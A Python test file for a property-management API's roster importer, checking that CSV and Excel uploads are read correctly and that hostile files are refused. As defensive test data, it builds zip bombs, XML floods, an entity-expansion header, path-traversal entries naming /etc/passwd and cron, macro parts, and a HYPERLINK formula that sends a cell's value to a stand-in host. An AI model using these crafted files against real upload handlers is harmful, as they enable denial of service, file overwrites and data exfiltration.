"""Roster files as tables: what is read, and what is refused before anything looks into it."""

import base64
import io
import struct
import tempfile
import time
import zipfile
from collections.abc import Callable
from datetime import date
from random import Random
from typing import Any

import pytest
import xlsxwriter
from tests.factories.files import JPEG, PDF
from tests.factories.rosters import owner_row, part, repacked, separated, unit_row, workbook

from ownercare_api.exchange import tables, workbooks
from ownercare_api.exchange.lifecycle import RosterKind
from ownercare_api.exchange.refusals import RosterRefused, WrongRosterType
from ownercare_api.exchange.tables import Table

SHEET = "xl/worksheets/sheet1.xml"
ROWS = [owner_row(0), owner_row(1)]


def scratch() -> Any:
    return tempfile.TemporaryFile()


def read(content: bytes) -> Table:
    return tables.opened(io.BytesIO(content), scratch=scratch)


def as_texts(content: bytes) -> list[tuple[int, list[Any]]]:
    return [(number, cells) for number, cells in read(content).rows]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_of_every_spelling_is_read_alike(encoding: str, delimiter: str) -> None:
    rows = [owner_row(0, preferences='先电话,再上门;"轻声"'), owner_row(1, name="㼆䶮𠮷")]
    table = read(separated(rows, encoding=encoding, delimiter=delimiter))
    assert table.heading[:3] == ["楼栋", "房号", "业主姓名"]
    first, second = list(table.rows)
    assert (first[0], second[0]) == (2, 3)
    assert '先电话,再上门;"轻声"' in first[1]
    assert second[1][2] == "㼆䶮𠮷"


def test_a_workbook_keeps_texts_numbers_and_dates_apart() -> None:
    content = workbook([unit_row(0, area=128.5, delivered=date(2025, 6, 30))], kind=RosterKind.UNITS)
    table = read(content)
    ((number, cells),) = list(table.rows)
    assert number == 2
    assert dict(zip(table.heading, cells, strict=True)) == {
        "楼栋": "1栋", "总层数": "20", "房号": "1-0101", "楼层": 1.0, "户型": "三室两厅两卫", "购房批次": "一期",
        "建筑面积": 128.5, "delivered": date(2025, 6, 30),
    }  # fmt: skip


def test_rows_are_numbered_as_people_see_them() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet()
    sheet.write_string(2, 1, "楼栋")  # B3
    sheet.write_string(5, 1, "1栋")  # B6, after empty rows
    book.close()
    table = read(out.getvalue())
    assert (table.heading, list(table.rows)) == ([None, "楼栋"], [(6, [None, "1栋"])])
    assert list(read("楼栋,房号\r\n\r\n1栋,101\r\n".encode()).rows) == [(3, ["1栋", "101"])]


def bomb(megabytes: int, *, name: str = SHEET) -> bytes:
    return repacked(workbook(ROWS), replace={name: b"<worksheet>" + b" " * (megabytes << 20) + b"</worksheet>"})


def lying_bomb() -> bytes:
    """A bomb whose directory declares a small size."""
    content = bytearray(bomb(100))
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = -1
        while (at := content.find(signature, at + 1)) >= 0:
            size = struct.unpack_from("<I", content, at + offset)[0]
            if size > 1 << 20:
                struct.pack_into("<I", content, at + offset, 1000)
    return bytes(content)


def flood(piece: bytes, *, megabytes: int = 40, before: bytes = b"", after: bytes = b"") -> Callable[[], bytes]:
    """Make a sheet of the same piece over and over, with as much noise in it as keeps it from being called dense."""

    def make() -> bytes:
        noise = b"".join(b"<!--%s-->" % base64.b64encode(Random(seed).randbytes(1000)) for seed in range(megabytes * 8))
        sheet = b"<worksheet>" + before + piece * ((megabytes << 20) // len(piece)) + after + noise + b"</worksheet>"
        return repacked(workbook(ROWS), replace={SHEET: sheet})

    return make


def with_formula() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet()
    sheet.write_string(0, 0, "楼栋")
    sheet.write_formula(1, 2, '=HYPERLINK("http://example.invalid/"&A1,"x")')
    book.close()
    return out.getvalue()


def hidden_formula() -> bytes:
    """The same element behind another prefix and another quote."""
    sheet = (
        b"<x:worksheet xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><x:sheetData><x:row r='1'>"
        b"<x:c r='A1'><x:f>1+1</x:f><x:v>2</x:v></x:c></x:row></x:sheetData></x:worksheet>"
    )
    return repacked(workbook(ROWS), replace={SHEET: sheet})


def entities() -> bytes:
    shared = part(workbook(ROWS), "xl/sharedStrings.xml")
    laughs = b'<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    head, _, rest = shared.partition(b"?>")
    return repacked(workbook(ROWS), replace={"xl/sharedStrings.xml": head + b"?>" + laughs + rest})


def far_cell(reference: str) -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="1"><c r="A1"><v>1</v></c></row><row><c r="{reference}"><v>1</v></c></row></sheetData></worksheet>'
    )
    return repacked(workbook(ROWS), replace={SHEET: sheet.encode()})


def many_entries() -> bytes:
    return repacked(workbook(ROWS), add={f"xl/media/image{number}.png": b"x" for number in range(300)})


def password_protected() -> bytes:
    """An encrypted package: an OLE container with the name of its stream."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(400)


def encrypted_entries() -> bytes:
    content = bytearray(workbook(ROWS))
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = -1
        while (at := content.find(signature, at + 1)) >= 0:
            content[at + offset] |= 1
    return bytes(content)


def truncated() -> bytes:
    return workbook(ROWS)[:-200]


def added(name: str, content: bytes = b"<x/>") -> Callable[[], bytes]:
    """Make a roster with one part more."""
    return lambda: repacked(workbook(ROWS), add={name: content})


HOSTILE: dict[str, tuple[Callable[[], bytes], type[Exception], str]] = {
    "bomb": (lambda: bomb(200), RosterRefused, "unpacked_too_large"),
    "dense part": (lambda: bomb(100), RosterRefused, "unpacked_too_large"),
    "bomb that lies about its size": (lying_bomb, RosterRefused, "malformed"),
    "bomb elsewhere": (lambda: bomb(90, name="docProps/app.xml"), RosterRefused, "unpacked_too_large"),
    "flood of elements": (flood(b"<x/>"), RosterRefused, "malformed"),
    "flood of what cells hold": (flood(b"<v/>", before=b"<row><c>", after=b"</c></row>"), RosterRefused, "malformed"),
    "flood of cells in one place": (
        flood(b'<c r="A1"/>', before=b"<row>", after=b"</row>"), RosterRefused, "too_many_columns",
    ),
    "flood of attributes": (
        flood(b"<x %s/>" % b" ".join(b'a%d=""' % at for at in range(200))), RosterRefused, "malformed",
    ),
    "attribute of forty megabytes": (flood(b"A", before=b'<c r="', after=b'"/>'), RosterRefused, "malformed"),
    "formula": (with_formula, RosterRefused, "formula"),
    "formula behind a prefix": (hidden_formula, RosterRefused, "formula"),
    "macros": (added("xl/vbaProject.bin", b"x"), RosterRefused, "macros"),
    "macro sheet": (added("xl/macrosheets/sheet1.xml", b"<x/>"), RosterRefused, "macros"),
    "external link": (
        added("xl/externalLinks/externalLink1.xml", b"<x/>"), RosterRefused, "external_links",
    ),
    "data connection": (added("xl/connections.xml", b"<x/>"), RosterRefused, "external_links"),
    "embedded object": (
        added("xl/embeddings/oleObject1.bin", b"x"), RosterRefused, "embedded_objects",
    ),
    "archive inside": (added("xl/media/a.zip", b"x"), RosterRefused, "nested_archive"),
    "archive inside with another name": (
        lambda: repacked(workbook(ROWS), add={"xl/media/a.png": workbook(ROWS)}), RosterRefused, "nested_archive",
    ),
    "path upwards": (added("../../etc/cron.d/x", b"x"), RosterRefused, "unsafe_path"),
    "absolute path": (added("/etc/passwd", b"x"), RosterRefused, "unsafe_path"),
    "drive letter": (added("C:/x", b"x"), RosterRefused, "unsafe_path"),
    "too many entries": (many_entries, RosterRefused, "too_many_entries"),
    "entities": (entities, RosterRefused, "entities"),
    "cell far to the right": (lambda: far_cell("XFD2"), RosterRefused, "too_many_columns"),
    "cell far below": (lambda: far_cell("A1048576"), RosterRefused, "too_many_rows"),
    "password": (password_protected, RosterRefused, "encrypted"),
    "encrypted entries": (encrypted_entries, RosterRefused, "encrypted"),
    "truncated": (truncated, RosterRefused, "malformed"),
    "old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), WrongRosterType, "old_workbook"),
    "OpenDocument": (
        added("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        WrongRosterType,
        "open_document",
    ),
    "other archive": (lambda: b"PK\x05\x06" + bytes(18), WrongRosterType, "other_type"),
    "web page": (lambda: b"\xef\xbb\xbf  <HTML><table><tr><td>1</td></tr></table>", WrongRosterType, "html"),
    "xml spreadsheet": (lambda: b'<?xml version="1.0"?><Workbook/>', WrongRosterType, "html"),
    "picture": (lambda: JPEG, WrongRosterType, "other_type"),
    "pdf": (lambda: PDF, WrongRosterType, "other_type"),
    "program": (lambda: b"\x7fELF" + bytes(100), WrongRosterType, "other_type"),
    "UTF-16": (lambda: "楼栋,房号\n1,2\n".encode("utf-16"), RosterRefused, "encoding_unknown"),
    "bytes of no encoding": (lambda: b"a,b\n\xff\xff\xff,1\n", RosterRefused, "encoding_unknown"),
    "NUL": (lambda: "楼栋,房号\n1\x00,2\n".encode(), RosterRefused, "control_characters"),
    "only blanks": (lambda: b" \n\n,,,\n", RosterRefused, "empty"),
}  # fmt: skip


@pytest.mark.rule("OWN-15")
@pytest.mark.parametrize("which", HOSTILE)
def test_hostile_files_are_refused_at_once(which: str) -> None:
    make, kind, reason = HOSTILE[which]
    content = make()
    began = time.perf_counter()
    with pytest.raises(kind) as refusal:
        read(content)
    assert refusal.value.reason == reason  # type: ignore[attr-defined]
    assert time.perf_counter() - began < 5, "generous: benchmarks/imports.py measures it against two seconds"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('楼栋,房号\n"1,2\n'.encode(), "csv_broken"),
        (("楼栋,房号\n" + "1,2\n" * 100_002).encode(), "too_many_rows"),
        (("楼栋,房号\n" + "," * 80 + "1\n").encode(), "too_many_columns"),
        (('楼栋,房号\n"' + "x" * 200_000 + '",2\n').encode(), "csv_broken"),
    ],
)
def test_what_breaks_off_below_the_heading_is_refused_when_it_is_read(content: bytes, reason: str) -> None:
    table = read(content)
    with pytest.raises(RosterRefused) as refusal:
        list(table.rows)
    assert refusal.value.reason == reason


def test_the_library_sees_only_parts_that_passed() -> None:
    content = repacked(workbook(ROWS), add={"xl/media/logo.png": b"\x89PNG", "customXml/item1.xml": b"<x/>"})
    with scratch() as out, zipfile.ZipFile(workbooks.cleaned(io.BytesIO(content), out=out)) as made:
        assert set(made.namelist()) == {
            "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
            "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml",
        }  # fmt: skip
    assert len(as_texts(content)) == 2


def test_the_formula_s_cell_is_named() -> None:
    with pytest.raises(RosterRefused) as refusal:
        read(with_formula())
    assert "C2" in refusal.value.detail("zh-CN")
    assert refusal.value.errors[0].pointer == "#/file"
